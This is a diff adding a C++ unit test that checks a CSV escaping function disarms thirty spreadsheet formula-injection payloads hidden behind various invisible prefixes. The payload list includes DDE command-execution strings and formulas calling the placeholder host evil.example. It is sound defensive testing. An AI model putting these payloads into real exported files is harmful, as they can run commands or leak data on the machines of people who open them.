@@ -31,6 +31,67 @@ TEST(CsvCell, MakesFormulasInertInEveryDisguise) {
   EXPECT_EQ(csv_cell("=\"a\",b"), "\"'=\"\"a\"\",b\"");
 }
 
+// What has been used against spreadsheets, each also behind what a reader may trim.
+TEST(CsvCell, DisarmsThirtyPayloads) {
+  const std::string payloads[] = {"=cmd|' /C calc'!A0",
+                                  "=1+1",
+                                  "=HYPERLINK(\"http://evil.example\",\"x\")",
+                                  "=IMPORTXML(\"http://evil.example\",\"//a\")",
+                                  "=WEBSERVICE(\"http://evil.example\")",
+                                  "=DDE(\"cmd\";\"/C calc\";\"x\")",
+                                  "+cmd|' /C calc'!A0",
+                                  "-2+3+cmd|' /C calc'!A0",
+                                  "@SUM(1+1)*cmd|' /C calc'!A0",
+                                  "=-1+1+cmd|' /C calc'!A0",
+                                  "-1-1",
+                                  "+1",
+                                  "@A1",
+                                  "\t=1+1",
+                                  "\r=1+1",
+                                  "\n=1+1",
+                                  "\r\n=1+1",
+                                  "\xEF\xBC\x9D"
+                                  "1+1",
+                                  "\xEF\xBC\x8B"
+                                  "1",
+                                  "\xEF\xBC\x8D"
+                                  "1",
+                                  "\xEF\xBC\xA0"
+                                  "A1",
+                                  "=\"a\",b",
+                                  "=1\"\"",
+                                  "=rundll32|'x'!A",
+                                  "=FILTERXML(\"a\",\"b\")",
+                                  "=IMAGE(\"http://evil.example/x.png\")",
+                                  "\t@A1",
+                                  "\t+1",
+                                  "-A1:A9",
+                                  "=$A$1"};
+  EXPECT_EQ(std::size(payloads), 30u);
+  const auto shown = [](std::string_view cell) {  // what a reader of RFC 4180 sees
+    if (!cell.starts_with('"')) return std::string(cell);
+    std::string text;
+    for (std::size_t i = 1; i + 1 < cell.size(); ++i) {
+      text += cell[i];
+      if (cell[i] == '"') ++i;
+    }
+    return text;
+  };
+  const std::string nothing(1, '\0');
+  for (const std::string& payload : payloads)
+    for (const std::string& before :
+         {std::string(), std::string(" "), std::string("\v"), nothing, nothing + " ",
+          std::string("\xC2\xA0"), std::string("\xE3\x80\x80"), std::string("\xE2\x80\x8B"),
+          std::string("\xEF\xBB\xBF"), std::string(" \xE3\x80\x80 ")}) {
+      const std::string text = before + payload;
+      const std::string cell = shown(csv_cell(text));
+      EXPECT_TRUE(cell.starts_with('\'')) << text;
+      std::string kept = text;
+      std::erase(kept, '\0');
+      EXPECT_EQ(cell.substr(1), kept) << "nothing else is changed";
+    }
+}
+
 TEST(CsvCell, KeepsLongNumbersAsText) {
   EXPECT_EQ(csv_cell("12345678901"), "12345678901");
   EXPECT_EQ(csv_cell("123456789012"), "'123456789012");
